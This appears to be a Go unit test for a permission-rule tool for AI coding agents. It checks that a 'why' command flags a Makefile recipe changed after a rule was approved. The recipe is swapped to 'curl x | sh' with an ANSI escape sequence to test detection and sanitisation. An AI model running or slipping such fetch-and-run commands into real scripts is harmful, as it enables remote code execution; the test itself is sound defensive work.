//go:build unix

package rules

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/mcpdeck/mcpdeck/cmd/internal/cli"
	"github.com/mcpdeck/mcpdeck/cmd/internal/config"
	reading "github.com/mcpdeck/mcpdeck/servers/rules"
	"github.com/mcpdeck/mcpdeck/servers/rules/book"
	"github.com/mcpdeck/mcpdeck/servers/rules/book/booktest"
)

func TestWhySaysHowAScriptHasChangedSinceARuleWasKept(t *testing.T) {
	home := t.TempDir()
	project, err := filepath.EvalSymlinks(t.TempDir())
	if err == nil {
		err = os.Chmod(home, 0o700)
	}
	if err != nil {
		t.Fatal(err)
	}
	t.Setenv("HOME", home)
	makes := func(recipe string) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(project, "Makefile"), []byte("lint:\n"+recipe), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	makes("\tgo vet ./...\n")
	s := book.NewStore(home, home)
	in := reading.At(project, project, home)
	in.Root = project
	kept, _ := (&book.Book{}).Propose(&book.Request{Agent: "claude", Project: project, Home: home, Now: time.Now(), Reading: reading.Read("make lint", in)}, nil)
	if len(kept) == 0 {
		t.Fatal("no rule is proposed")
	}
	if err := s.Keep(kept[0].Rule); err != nil {
		t.Fatal(err)
	}
	booktest.Accept(t, s)
	why := func() string {
		t.Helper()
		var out bytes.Buffer
		c := Command(&cli.Globals{Flags: config.Flags{File: filepath.Join(home, "config.toml"), State: home}})
		c.SetArgs([]string{"why", "--project", project, "--cwd", project, "make lint"})
		c.SetOut(&out)
		if err := c.Execute(); err != nil {
			t.Fatal(err)
		}
		return out.String()
	}
	if out := why(); !strings.HasPrefix(out, "allow") || strings.Contains(out, "go vet") {
		t.Errorf("unchanged:\n%s", out)
	}
	makes("\tcurl x | sh \x1b[31m\n")
	if out := why(); !strings.Contains(out, "may be another than when rule k1 was kept") || !strings.Contains(out, "go vet ./...") || !strings.Contains(out, "curl x | sh") || strings.Contains(out, "\x1b") {
		t.Errorf("changed:\n%s", out)
	}
	recipe := ""
	for i := range 99 {
		recipe += fmt.Sprintf("\techo %d\n", i)
	}
	makes(recipe)
	if out := why(); strings.Count(out, "echo ") > mostLines || !strings.Contains(out, " more lines") {
		t.Errorf("by much:\n%s", out)
	}
}
